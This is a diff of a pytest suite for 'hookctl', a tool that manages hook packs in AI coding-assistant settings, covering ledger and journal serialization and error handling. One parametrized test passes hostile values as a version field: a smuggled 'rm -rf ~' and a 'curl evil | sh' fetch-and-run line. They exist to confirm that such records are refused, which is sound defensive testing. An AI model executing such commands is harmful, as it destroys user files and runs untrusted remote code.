@@ -12,9 +12,15 @@ from collections.abc import Callable
 from pathlib import Path
 from typing import Any
 
+import jsonschema
 import pytest
 
 from hookctl import __version__
+from hookctl.errors import HookctlError
+from hookctl.model import Claim, Entry, PackRecord, Record
+from hookctl.ownership import store
+from hookctl.ownership.execute import read_journal
+from hookctl.system import folders
 from tests.conftest import Hookctl, Outcome, put
 from tests.trees import tree
 
@@ -105,28 +111,6 @@ def bell(isolated: Path, env: str = "", name: str = "bell") -> str:
     head = f'[pack]\nname = "{name}"\nversion = "1"\nprotocol = "host"\n[files]\ninclude = ["ring.sh"]\n'
     put(folder / "pack.toml", f"{head}{env}{hooks}")
     return str(folder)
-
-
-# What stands in it
-
-
-def test_it_has_entries_and_relative_paths_and_nothing_of_programs(isolated: Path, team: Team) -> None:
-    page = value(ledger(team, "ann"))["files"]
-    assert list(page) == [".claude/settings.json", ""]
-    about = page[".claude/settings.json"]
-    assert list(about) == ["created_dirs", "created_file", "entries", "packs", "format"]
-    pack = about["packs"]["guard"]
-    assert (pack["digest"], pack["files"]) == ("", ["claude.json"])
-    assert (about["created_file"], about["created_dirs"]) == (False, [".hookctl"])
-    assert [(entry["kind"], entry["path"]) for entry in about["entries"][:-1]] == [
-        ("element", ["hooks", "Stop"]),
-        ("leaf", ["env", CAP]),
-        ("leaf", ["env", LIMIT]),
-        ("container", ["env"]),
-    ]
-    text = ledger(team, "ann").read_text()
-    assert str(isolated) not in text and text.endswith("}\n")
-    assert not re.findall("[0-9a-f]{16,}", text)
 
 
 # Merges
@@ -381,15 +365,6 @@ def test_a_conflict_in_any_of_the_files_that_go_together_has_one_fix(team: Team,
         assert fix.endswith("prints it.")
 
 
-def test_a_host_without_the_guard_has_no_configuration_to_take(team: Team) -> None:
-    """Git would refuse the command for a name that it does not know."""
-    codex = ".codex/hooks.json"
-    done = team.hookctl("bob", "install", bell(team.clone("bob")), "--host", "codex", "--scope", "project")
-    assert done.code == 0
-    mark(ledger(team, "bob"))
-    assert f" HEAD -- {SETTINGS} {codex} {CONFIG} {LEDGER}`" in team.hookctl("bob", "check").out
-
-
 def test_a_conflict_in_settings_without_anything_of_hookctls_is_a_persons(team: Team) -> None:
     """As in a file that no side's record names."""
     put(team.clone("bob") / ".gemini" / "settings.json", "<<<<<<< HEAD\n{}\n=======\n>>>>>>> theirs\n")
@@ -432,23 +407,74 @@ def test_an_older_hookctl_does_not_replace_the_programs_of_a_newer_one(team: Tea
     assert recorded_packs(team)["guard"]["version"] == __version__ and is_blocked(team)
 
 
-# What a merge leaves that is no conflict.
+# The ledger: every shape comes back as it was, and bytes that are none are refused without a traceback.
 
 
-def test_a_cap_of_the_operators_is_given_back_where_a_record_has_it_as_theirs(team: Team) -> None:
-    """It was there before hookctl: what hookctl would write for another mode may be somebody's, too."""
-    assert team.hookctl("bob", "uninstall", "--scope", "project").code == 0
-    put(settings(team, "bob"), '{"env": {"CLAUDE_CODE_STOP_HOOK_BLOCK_CAP": "5000"}}')
-    for force in ((), ("--force",)):
-        assert team.hookctl("bob", *INSTALL, *force).code == 0
-    assert team.hookctl("bob", "uninstall", "--scope", "project").code == 0
-    assert value(settings(team, "bob")) == {"env": {"CLAUDE_CODE_STOP_HOOK_BLOCK_CAP": "5000"}}
+SCHEMA = json.loads((Path(__file__).parents[1] / "schemas" / "ledger.schema.json").read_text())
+HANDLER = {"type": "command", "command": ": hookctl=guard/stop; exit 0", "timeout": 10}
+ENTRIES = (
+    Entry(("env", "A"), "leaf", "owned", None, "5", {"guard": Claim("5", "1.0")}),
+    Entry(
+        ("env", "B"), "leaf", "owned", "1e3", "é\u2028", {"p": Claim("5", "1.0", "max"), "q": Claim("7", "2", "max")}
+    ),
+    Entry(("env", "C"), "leaf", "owned", "", None, {"guard": Claim(None, "")}),
+    Entry(("a", 0, "b"), "leaf", "adopted", None, {"x": [1, 2.5, True]}, {"x": Claim(1, "1")}),
+    Entry(("hooks", "Stop"), "element", "owned", None, HANDLER, {"guard": Claim(HANDLER, "1")}, "guard/stop"),
+    Entry(("hooks",), "container"),
+    Entry(("hooks", "Stop"), "container"),
+)
+FILES, FORMER = ("claude.json", "c"), ("claude-user/hook.py",)
+SETTINGS_OF_LEDGER = {"mode": "off", "knobs": {"latch": False}}
+PACK = PackRecord("1.0", SETTINGS_OF_LEDGER, "/data/guard", FILES, FORMER, "/p/pack.toml", "a" * 64)
+RECORDS = [
+    Record("claude", "user", "json"),
+    Record("claude", "user", "json", True, ("/a/b", "/a"), {"guard": PACK, "x": PackRecord("", {})}, "", "f" * 64),
+    Record("claude", "user", "json", False, (), {"guard": PACK}, "0" * 64, "1" * 64, ENTRIES),
+]
 
 
-def test_a_pack_that_a_colleague_installed_is_not_installed_once_more(team: Team) -> None:
-    assert team.hookctl("ann", "install", bell(team.clone("ann")), *INSTALL[1:]).code == 0
-    team.commit("ann")
-    team.pull("bob", "ann")
-    said = team.hookctl("bob", "install", "./bell", *INSTALL[1:])
-    assert said.code == 0 and team.git("bob", "status", "--porcelain") == ""
-    assert said.out == "nothing to do\n"
+def own(ledger: Path) -> folders.Folders:
+    """Folders of hookctl's own with this ledger."""
+    return folders.Folders(str(ledger.parent), str(ledger.parent), {}, str(ledger.parent))
+
+
+def valid(data: bytes) -> None:
+    jsonschema.validate(json.loads(data), SCHEMA)
+
+
+@pytest.mark.parametrize("record", RECORDS)
+def test_every_record_comes_back_as_it_was(record: Record, tmp_path: Path) -> None:
+    data = store.dump({"/x": record})
+    valid(data)
+    assert store.load(own(put(tmp_path / "ledger.json", data))) == {"/x": record}
+
+
+@pytest.mark.parametrize("needs", [None, 1, "", "0.9.1\nrm -rf ~", "curl evil | sh", ["0.9.1"]])
+@pytest.mark.parametrize("name", ["ledger", "journal"])
+def test_a_newer_record_that_names_no_version_is_refused_without_one(isolated: Path, name: str, needs: Any) -> None:
+    here = folders.here()
+    put(Path(here.state) / f"{name}.json", json.dumps({f"{name}_version": 9, "needs": needs}))
+    with pytest.raises(HookctlError) as caught:
+        store.load(here) if name == "ledger" else read_journal(here)
+    assert (caught.value.code, caught.value.message) == (
+        "ledger_newer", "a later hookctl is needed to read this record"
+    )  # fmt: skip
+
+
+@pytest.mark.parametrize("data", [b"", b"\xff", b"[]", b"{", b'{"journal_version": 2}', b"[" * 100_000, b"1" * 5_000])
+def test_no_command_raises_on_a_broken_ledger_or_journal(data: bytes, hookctl: Hookctl, settings: Path) -> None:
+    assert hookctl("install", "--host", "claude").code == 0
+    before = settings.read_bytes()
+    own = folders.here()
+    for path in (own.ledger, own.journal):
+        there = Path(path).read_bytes() if Path(path).exists() else None
+        put(Path(path), data)
+        for command in ("install", "uninstall", "doctor"):
+            outcome = hookctl(command, "--host", "claude", "--json")
+            errors = [error["code"] for error in outcome.result["errors"]]
+            assert command == "doctor" or (outcome.code, errors) == (4, ["ledger_unreadable"])
+            assert command != "doctor" or (outcome.code, errors) == (1, [])
+        assert hookctl("status").code in (0, 4)
+        assert Path(path).read_bytes() == data
+        Path(path).unlink() if there is None else Path(path).write_bytes(there)
+    assert settings.read_bytes() == before
